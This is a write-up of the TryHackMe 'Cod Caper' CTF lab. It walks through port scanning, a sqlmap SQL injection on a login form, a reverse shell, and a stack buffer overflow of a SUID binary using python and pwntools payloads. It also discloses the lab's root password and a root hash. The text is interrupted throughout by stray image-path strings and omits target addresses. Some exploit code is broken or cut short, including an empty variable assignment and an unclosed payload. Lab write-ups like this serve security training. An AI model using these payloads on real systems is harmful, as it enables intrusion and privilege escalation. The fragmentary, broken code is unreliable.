thecodcaper CTF | write-up

thecodcaper CTF | write-up

Hello everyone, today's CTF is so impressive, not rated yet but from my little experience I can tell there's no easy or hard challenge, it's all about how out-of-the-box can you think. but no worries thisone does have hints and the techniques areprovided with the questioner. anyways! hope you guys enjoy this write-up, Let's enumerate machine!

root@kali:~# nmap -sV -sC
Starting Nmap 7.80 ( ) at 2020-04-10 09:50 UTC
Nmap scan report for (
Host is up (0.0018s latency).
Not shown: 998 closed ports
22/tcp open  ssh     OpenSSH 7.2p2 Ubuntu 4ubuntu2.8 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 6d:2c:40:1b:6c:15:7c:fc:bf:9b:55:22:61:2a:56:fc (RSA)
|   256 ff:89:32:98:f4:77:9c:09:39:f5:af:4a:4f:08:d6:f5 (ECDSA)
|_  256 89:92:63:e7:1d:2b:3a:af:6c:f9:39:56:5b:55:7e:f9 (ED25519)
80/tcp open  http    Apache httpd 2.4.18 ((Ubuntu))
|_http-server-header: Apache/2.4.18 (Ubuntu)
|_http-title: Apache2 Ubuntu Default Page: It works
MAC Address: 02:8C:7D:6E:AC:54 (Unknown)
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 6.93 seconds
root@kali:~# gobuster dir -u -w /usr/share/dirb/wordlists/big.txt -x .php
Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+]Url:
[+] Threads:        10
[+] Wordlist:/usr/share/dirb/wordlists/big.txt
[+] Status codes:   200,204,301,302,307,401,403
[+] User Agent:     gobuster/3.0.1
[+] Extensions:     php
[+] Timeout:        10s
2020/04/10 09:53:19 Starting gobuster
/.htpasswd (Status: 403)
/.htpasswd.php (Status: 403)
/.htaccess (Status: 403)
/.htaccess.php (Status: 403)
/administrator.php (Status: 200)
/server-status (Status: 403)
2020/04/10 09:53:22 Finished

So what's happening is that we will try to do a SQL injection in the POST data, we saved the request from burp and passed it to sqlmaproot@kali:~# sqlmap -r request.txt --dbs
 ___ ___["]_____ ___ ___  {1.4#stable}
|_ -| . [)]     | .'| . |
|___|_  [)]_|_|_|__,|  _|
      |_|V...       |_|

[!] legal disclaimer: Usage of sqlmap for attacking targets without prior mutual consent is illegal. It is the end user's responsibility to obey all applicable local, state and federal laws. Developers assume no liability and are not responsible for any misuse or damage caused by thisprogram

[*] starting @ 10:02:28 /2020-04-10/

[10:02:28] [INFO] parsing HTTP request from 'request.txt'
[10:02:28] [INFO] resuming back-end DBMS 'mysql'
[10:02:28] [INFO] testing connection to the target URL
sqlmap resumed the following injection point(s) from stored session:
Parameter: username (POST)
    Type: boolean-based blind
    Title: MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause
    Payload: username=admin' RLIKE (SELECT (CASE WHEN (7708=7708) THEN 0x61646d696e ELSE 0x28 END))-- MUAf&password=pass

    Type: error-based
    Title: MySQL >= 5.0 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)
    Payload: username=admin' OR (SELECT 1403 FROM(SELECT COUNT(*),CONCAT(0x71706a6271,(SELECT (ELT(1403=1403,1))),0x716b627671,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- staB&password=pass

    Type: time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind (query SLEEP)
    Payload: username=admin' AND (SELECT 3219 FROM (SELECT(SLEEP(5)))CJGe)-- kkog&password=pass
[10:02:28] [INFO] the back-end DBMS is MySQL
back-end DBMS: MySQL >= 5.0
[10:02:28] [INFO] fetching database names
[10:02:28] [INFO] used SQL query returns 5 entries
[10:02:28] [INFO] resumed: 'information_schema'
[10:02:28] [INFO] resumed: 'mysql'
[10:02:28] [INFO] resumed: 'performance_schema'
[10:02:28] [INFO] resumed: 'sys'
[10:02:28] [INFO] resumed: 'users'
available databases [5]:
[*] information_schema[*] mysql
[*] performance_schema
[*] sys
[*] users

[10:02:28] [INFO] fetched data logged to text files under '/root/.sqlmap/output/'
[10:02:28] [WARNING] you haven't updated sqlmap for more than 99 days!!!

[*] ending @ 10:02:28 /2020-04-10/


and we logged in with the credentials we got from the SQL injection, but the fun doesn't end there, we have a command prompt interacting with user www-data, we definitely can do something about it.

after digging a little bit, I found the SSH private key to the user in the machine,thought why not! let's enter from the front door.

root@kali:~# vim id_rsa
root@kali:~# locate ssh2john
root@kali:~# /usr/share/john/ id_rsa
id_rsa has no password!
Great! no password

But the issue here, when I tried to ssh to the machine, didn't let me in, it kept asking for the password, the next thing I thought about is a REVERSE SHELL from the command prompt!

so I managed to make a simple one with echo in the /tmp file, I managed to run it, and get a reverse shell from the user www-data

I then did some enumeration for files that are running as root for our user, to see if we can escalate. I used LinPEAS which is the new version of LinEnum.we found an interesting file called root in /opt/secret/ and as explained by the CTF maker," The SUID file we found seems to expect 32 characters of input, and then immediately exits. This seems to warrant further investigation. Luckily I was practicing binary exploitation back when I was using that PC, so I have tools preinstalled to examine. One of those tools is pwndbg, a plugin for GDB which allows you to better examine binary files.

Run gdb /opt/secret/root and you should see a screen similar to this

This means that pwndbg has successfully been initialized. The next step is to test if anything happens when you send more then 32 characters. To do this type r < <(cyclic 50), that command runs the program and provides 50 characters worth of "cyclic" input.

Cyclic input goes like this: "aaaaaaaabaaacaaadaaaeaaaf" etc. Because it's in this "cyclic" format, it allows us to better understand the control we have over certain registers, for reasons you are about to see.

Once you run that command you should see something similar to this screen

Now this is where some knowledge of assembly helps. It seems that in this case we're able to overwrite EIP, which is known as the instruction pointer. The instruction pointer tells the program which bit of memory to execute next, which in an ideal case would have the program run normally. However, since we're able to overwrite it, we can theoretically execute any part of the program at anytime. Recall the shell function from the source code, if we can overwrite EIP to point to the shell function, we can cause it to execute. This is also where the benefits of cyclic input show themselves. Recall that cyclic input goes in 4 character/byte sequences, meaning we're able to calculate exactly how many characters we need to provide before we can overwrite EIP. Luckily cyclic provides this functionality with the -l flag, running cyclic -l {fault address} will tell us exactly how many characters we need to provide we can overwrite EIP.

Running cyclic -l 0x6161616c outputs 44, meaning we can overwrite EIP once we provide 44 characters of input.
That's all we needed for pre-explotation!

Now the next step is to find out exactly where the shell function is in memory so we know what to set EIP to. GDB supports this aswell with the disassemble command. Type disassemble shell, and this should pop up.

What we're interested in is thehex memory addresses. So from what we know all we have to do is provide 44 characters, and then "0x080484cb" and the shell function should execute, let's try it!
Note: Modern CPU architectures are "little endian" meaning bytes are backwards. For example "0x080484cb" would become "cb840408" We can use python to do this, as it allows a nice way of converting.

Method 1 - Manual conversion:
python -c 'print "A"*44 + "\xcb\x84\x04\x08"' will output the payload we want, but it requires manually converting to little endian

Method 2 - Struct:
python -c 'import struct;print "A"*44 + struct.pack("<I",0x080484cb")'
It requires importing a module but struct.pack allows us to automatically convert memory to little endian.
We print 44 random characters(in this case A) and then our memory address in little endian, and shell should execute. This can be tested by piping the output in to the binary
python -c 'print "A"*44 + "\xcb\x84\x04\x08"' | /opt/secret/root
should provide you with this output.

www-data@ubuntu:/opt/secret$ python -c 'print "A"*44 + "\xcb\x84\x04\x08"' | /opt/secret/root
<$ python -c 'print "A"*44 + "\xcb\x84\x04\x08"' | /opt/secret/root
Illegal instruction
www-data@ubuntu:/opt/secret$ su root
su root
Password: love2fishuid=0(root) gid=0(root) groups=0(root)

Pwntools is a python library dedicated to making everything we just did in the last task much simpler. However, since it is a library, it requires python knowledge to use to it's full potential, and as such everything in this task will be done using a python script.
We start off the script with:

from pwn import *
proc = process('/opt/secret/root')

This imports all the utilities from the pwntools library so we can use them in our script, and then creates a process that we can interact with using pwntools functions.

We know that we need the memory address of the shell function, and pwntools provides a way to obtain that with ELF(). ELF allows us to get various memory addresses of important points in our binary, including the memory address of the shell function.
With the ELF addition our script becomes
from pwn import *
proc = process('/opt/secret/root')
elf = ELF('/opt/secret/root')
shell_func =
shell_func holds the memory address of our shell function. Now we need a way to form the payload, luckily pwntools has that to withfit().

fit allows us to form a payload by combining characters and our memory address. To send the payload we can use a method in our proc variable, proc.sendline(), which just sends whatever data we want to the binary. Finally we can use proc.interactive(), to view the full output of the process.
With all that our final exploit script becomes
from pwn import *
proc = process('/opt/secret/root')
elf = ELF('/opt/secret/root')
shell_func =
payload = fit({
44: shell_func # this adds the value of shell_func after 44 characters
Save that to a .py file and run it, and you should get this output:

Now that we have the password hashes, we can crack them and get the root password! Recall from the previous outputs that our rootpassword hash is $6$rFK4s/vE$zkh2/RBiRZ746OW3/Q/zqTRVfrfYJfFjFc2/q.oYtoF1KglS3YWoExtT3cvA3ml9UtDS8PFzCk902AsWx00Ck."

Happy hacking!

TryHackMe | The Cod Caper
A guided room taking you through infiltrating and exploiting a Linux system.
TryHackMe | Cyber Security Training
An online platform for learning and teachingcyber security, all through your browser.